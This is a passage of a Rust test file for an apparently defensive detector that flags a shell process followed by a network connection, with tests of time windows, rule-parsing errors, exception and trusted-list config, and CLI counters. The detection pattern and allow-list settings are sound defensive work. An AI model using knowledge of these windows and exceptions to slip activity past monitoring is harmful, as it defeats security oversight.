    // The built-in rule: 8 s is outside 5 s, inside an overridden 10 s.
    let pair = [shell(0), conn(8000)];
    assert_eq!(alerts(&Config::default(), &pair), 0);
    let c = cfg(r#"{"maxspan": "10s"}"#);
    assert_eq!(Detector::new(&c).unwrap().maxspan_ms(), Some(10_000));
    assert_eq!(alerts(&c, &pair), 1);
    assert_eq!(alerts(&cfg(r#"{"maxspan": "8000ms"}"#), &pair), 1, "inclusive");
    assert_eq!(alerts(&cfg(r#"{"maxspan": "7999ms"}"#), &pair), 0);
    // Narrowing a TOML rule's own maxspan.
    let path = repo("tests/data/tuning/fleet_tuned.toml").to_string_lossy().into_owned();
    let narrowed = Config { rule_file: Some(path), maxspan_ms: Some(3000), ..Config::default() };
    assert_eq!(alerts(&narrowed, &pair), 0);
    // A single-event query has no maxspan to override.
    let single = Config {
        rule_file: Some(tmp("single.eql", "process where process.name == \"sh\"")),
        maxspan_ms: Some(1000),
        ..Config::default()
    };
    assert_eq!(Detector::new(&single).unwrap().maxspan_ms(), None);
}

// ---------------------------------------------------------------------------
// Refusals

#[test]
fn unsupported_eql_in_a_toml_rule_is_refused_at_its_place_in_the_file() {
    let path = repo("tests/data/tuning/unsupported_pipe.toml").to_string_lossy().into_owned();
    let e = Config { rule_file: Some(path), ..Config::default() }.load_rule().unwrap_err();
    let apt_netcon::LoadError::Rule(r) = e else { panic!("{e}") };
    assert_eq!(r.kind, RuleErrorKind::Unsupported);
    assert_eq!((r.line, r.column), (13, 1), "{r}");
    assert!(r.message.contains("'| head'"), "{r}");
    assert!(r.message.contains("unsupported_pipe.toml"), "{r}");
    assert_eq!(r.source_line.as_deref().map(|l| l.starts_with("| head 5")), Some(true));
    assert!(r.to_string().contains("line 13, column 1"), "{r}");
}

#[test]
fn refusals_name_the_construct_and_its_position() {
    let head = "[rule]\nname = \"r\"\nrule_id = \"r\"\nquery = '''\n";
    // (query, construct named, line in the TOML file, column)
    let cases = [
        ("process where true | head 5", "'| head'", 5, 20),
        ("process where descendant of [process where true]", "'descendant of", 5, 15),
        ("process where process.name regex \"a~b\"", "complement", 5, 34),
        ("process where\n  foo(process.name)", "unknown function `foo`", 6, 3),
        ("process where process.args[0] == \"x\"", "array indexing", 5, 27),
        ("process where process.pid : 3", "use == to compare", 5, 29),
    ];
    for (i, (q, what, line, col)) in cases.iter().enumerate() {
        let text = format!("{head}{q}\n'''\n");
        let p = tmp(&format!("refuse{i}.toml"), &text);
        let e = Config { rule_file: Some(p.clone()), ..Config::default() }.load_rule().unwrap_err();
        let apt_netcon::LoadError::Rule(r) = e else { panic!("{e}") };
        assert!(r.message.contains(what), "{q}: {r}");
        assert_eq!((r.line, r.column), (*line, *col), "{q}: {r}");
        // The same query as a bare EQL file: positions within the query.
        let p = tmp(&format!("refuse{i}.eql"), q);
        let e = Config { rule_file: Some(p), ..Config::default() }.load_rule().unwrap_err();
        let apt_netcon::LoadError::Rule(r) = e else { panic!("{e}") };
        assert!(r.message.contains(what), "{q}: {r}");
        assert_eq!((r.line, r.column), (line - 4, *col), "{q}: {r}");
    }
    // Not an EQL rule at all.
    let p = tmp(
        "kql.toml",
        "[rule]\nname = \"k\"\nrule_id = \"k\"\ntype = \"query\"\nlanguage = \"kuery\"\nquery = 'process.name : sh'\n",
    );
    let e = Config { rule_file: Some(p), ..Config::default() }.load_rule().unwrap_err();
    assert!(e.to_string().contains("only EQL rules"), "{e}");
    // Broken TOML: the parser's position.
    let p = tmp("broken.toml", "[rule]\nname = \"k\"\nrule_id = k\n");
    let e = Config { rule_file: Some(p), ..Config::default() }.load_rule().unwrap_err();
    let apt_netcon::LoadError::Rule(r) = e else { panic!("{e}") };
    assert_eq!(r.line, 3, "{r}");
}

// ---------------------------------------------------------------------------
// Config errors

fn config_err(text: &str) -> apt_netcon::ConfigError {
    Config::from_json(text).expect_err(text)
}

#[test]
fn config_errors_name_the_key_and_the_problem() {
    let e = config_err(r#"{"trusted_ips": ["10.0.0.0/8"]}"#);
    assert_eq!(e.key.as_deref(), Some("trusted_ips"));
    for k in [
        "exceptions",
        "exceptions_file",
        "trusted_destination_cidrs",
        "trusted_executables",
        "trusted_hashes",
        "trusted_process_names",
        "trusted_command_lines",
        "maxspan",
    ] {
        assert!(e.to_string().contains(k), "valid keys listed: {e}");
    }
    let cases: &[(&str, &str, &str)] = &[
        (r#"{"exceptions": "curl"}"#, "exceptions", "expected an array"),
        (r#"{"exceptions": {"name": "x"}}"#, "exceptions", "expected an array"),
        (
            r#"{"exceptions": [{"name": "x", "entries": [{"field": "process.name", "operator": "equals", "value": "x"}]}]}"#,
            "exceptions",
            "unknown operator \"equals\"",
        ),
        (
            r#"{"exceptions": [{"name": "x", "entries": [{"field": "process.name", "operator": "is"}]}]}"#,
            "exceptions",
            "needs a `value`",
        ),
        (
            r#"{"exceptions": [{"name": "x", "entries": [{"field": "process.name", "operator": "is", "value": ["a"]}]}]}"#,
            "exceptions",
            "takes one value",
        ),
        (
            r#"{"exceptions": [{"name": "x", "entries": [{"field": "destination.ip", "operator": "is in cidr", "value": "10.0.0.0/33"}]}]}"#,
            "exceptions",
            "not an IP address or CIDR",
        ),
        (
            r#"{"exceptions": [{"name": "x", "entries": [{"field": "process..name", "operator": "exists"}]}]}"#,
            "exceptions",
            "dotted field path",
        ),
        (
            r#"{"exceptions": [{"name": "x", "entries": [{"field": "process.name", "operator": "matches", "value": ""}]}]}"#,
            "exceptions",
            "empty wildcard",
        ),
        (
            r#"{"exceptions": [{"name": "x", "entries": [{"fields": "process.name"}]}]}"#,
            "exceptions",
            "unknown key `fields`",
        ),
        (
            r#"{"exceptions": [{"name": "x", "entries": [{"field": "a", "operator": "exists"}]}, {"name": "x", "entries": [{"field": "a", "operator": "exists"}]}]}"#,
            "exceptions",
            "unique",
        ),
        (
            r#"{"exceptions": [{"name": "trusted_executables", "entries": [{"field": "a", "operator": "exists"}]}]}"#,
            "exceptions",
            "reserved",
        ),
        (r#"{"exceptions": [{"name": "x", "entries": []}]}"#, "exceptions", "at least one entry"),
        (
            r#"{"trusted_destination_cidrs": ["10.0.0.0/8", "intranet"]}"#,
            "trusted_destination_cidrs",
            "\"intranet\" is not an IP address",
        ),
        (r#"{"trusted_hashes": ["abc"]}"#, "trusted_hashes", "64 hexadecimal digits"),
        (r#"{"trusted_executables": "/usr/bin/curl"}"#, "trusted_executables", "expected an array"),
        (r#"{"trusted_process_names": [1]}"#, "trusted_process_names", "non-empty string"),
        (r#"{"maxspan": "5 seconds"}"#, "maxspan", "not a duration"),
        (r#"{"maxspan": "5"}"#, "maxspan", "not a duration"),
        (r#"{"maxspan": 5000}"#, "maxspan", "expected a string"),
        (r#"{"exceptions_file": "/nonexistent/exceptions.json"}"#, "exceptions_file", "cannot read"),
    ];
    for (text, key, says) in cases {
        let e = config_err(text);
        assert_eq!(e.key.as_deref(), Some(*key), "{text}: {e}");
        assert!(e.to_string().contains(says), "{text}: expected \"{says}\" in: {e}");
    }
    let e = config_err(
        r#"{"exceptions": [{"name": "a", "entries": [{"field": "a", "operator": "exists"}]}, {"name": "b", "entries": [{"field": "b", "operator": "isnt"}]}]}"#,
    );
    assert!(e.to_string().contains("item 2 (\"b\") entry 1"), "says which item and entry: {e}");
    let p = tmp("not-an-array.json", r#"{"name": "x"}"#);
    let e = config_err(&json!({"exceptions_file": p}).to_string());
    assert!(e.to_string().contains("JSON array"), "{e}");
}

#[test]
fn the_key_table_documents_the_new_keys() {
    let t = Config::markdown_table();
    assert!(t.contains("| `exceptions` | array |"), "{t}");
    assert!(t.contains("| `trusted_hashes` | array |"), "{t}");
    assert!(t.contains("| `maxspan` | string |"), "{t}");
    assert!(t.contains("| `rules` | array |"), "{t}");
    // The exception keys and `rules`.
    assert_eq!(apt_netcon::config::settings::KEYS.iter().filter(|k| k.ty == KeyType::Array).count(), 7);
}

// ---------------------------------------------------------------------------
// The CLI prints the per-item counters.

#[test]
fn cli_prints_the_exception_counters() {
    let conf = tmp(
        "cli-config.json",
        r#"{"trusted_process_names": ["curl"], "exceptions": [{"name": "port 80", "entries": [{"field": "destination.port", "operator": "is", "value": "80"}]}]}"#,
    );
    let mut input = Vec::new();
    for e in [shell(0), conn(1000)] {
        input.extend(serde_json::to_vec(&e).unwrap());
        input.push(b'\n');
    }
    let mut child = Command::new(env!("CARGO_BIN_EXE_apt-netcon"))
        .args(["--config", &conf])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(&input).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    assert_eq!(out.stdout, input, "nothing annotated, everything passed through");
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("excluded=1 by exception item: \"port 80\"=0 trusted_process_names=1"), "{err}");
}
